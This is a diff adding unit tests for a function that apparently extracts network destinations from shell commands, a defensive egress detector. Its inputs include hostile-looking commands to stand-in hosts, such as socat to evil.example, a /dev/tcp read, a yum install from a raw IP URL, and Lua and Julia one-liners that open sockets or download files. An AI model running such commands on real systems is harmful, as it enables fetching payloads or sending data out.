@@ -53,6 +53,38 @@ describe('egressOf: destinations of network tools', () => {
     expect(egressOf(['socat', '-', 'TCP:evil.example:9000'])).toEqual([{ tool: 'socat', host: 'evil.example', port: 9000 }]);
   });
 
+  it('socat -u (one direction) does not hide the address after it', () => {
+    expect(hosts(['socat', '-u', 'tcp-connect:198.51.100.7:9000', 'open:/tmp/x,creat'])).toEqual(['198.51.100.7']);
+  });
+
+  it('clients that carry a file with no URL: sshfs, finger, whois -h, smbclient, openssl s_client, zsh ztcp', () => {
+    expect(hosts(['sshfs', 'user@files.example:/', '/mnt/x'])).toEqual(['files.example']);
+    expect(egressOf(['finger', 'x@198.51.100.7'])).toEqual([{ tool: 'finger', host: '198.51.100.7', port: 79 }]);
+    expect(egressOf(['whois', '-h', '198.51.100.7', '-p', '12345', 'x'])).toEqual([{ tool: 'whois', host: '198.51.100.7', port: 12345 }]);
+    expect(hosts(['whois', 'example.com'])).toEqual([]);
+    expect(hosts(['smbclient', '\\\\fs.example\\share', '-c', 'get x'])).toEqual(['fs.example']);
+    expect(hosts(['smbclient', '//fs.example/share'])).toEqual(['fs.example']);
+    expect(egressOf(['openssl', 's_client', '-quiet', '-connect', '198.51.100.7:12345'])).toEqual([{ tool: 'openssl', host: '198.51.100.7', port: 12345 }]);
+    expect(egressOf(['ztcp', '198.51.100.7', '12345'])).toEqual([{ tool: 'ztcp', host: '198.51.100.7', port: 12345 }]);
+    expect(hosts(['lwp-download', 'http://dl.example/x', '/tmp/x'])).toEqual(['dl.example']);
+  });
+
+  it('a package installed from a URL is a download; one from the repositories is not', () => {
+    expect(hosts(['yum', 'install', 'http://198.51.100.7:8080/x.rpm'])).toEqual(['198.51.100.7']);
+    expect(hosts(['yum', 'install', 'htop'])).toEqual([]);
+  });
+
+  it('interpreters without a code analyser: URLs and socket peers in their code', () => {
+    expect(hosts(['julia', '-e', 'download("http://198.51.100.7:8080/x", "/tmp/x")'])).toEqual(['198.51.100.7']);
+    expect(hosts(['jrunscript', '-e', 'cp("http://dl.example/x","/tmp/x")'])).toEqual(['dl.example']);
+    expect(hosts(['lua', '-e', 'local t=require("socket").tcp(); t:connect("198.51.100.7", 9000)'])).toEqual(['198.51.100.7']);
+    expect(hosts(['lua', 'script.lua'])).toEqual([]);
+  });
+
+  it('a read from /dev/tcp reaches the host, like a write', () => {
+    expect(egress('cat </dev/tcp/198.51.100.7/9000 >/tmp/x')).toEqual([{ tool: '/dev/tcp', host: '198.51.100.7', port: 9000 }]);
+  });
+
   it('IPv6 literals lose their brackets', () => {
     expect(egressOf(['curl', 'http://[::1]:8080/'])[0]).toMatchObject({ host: '::1', port: 8080 });
   });
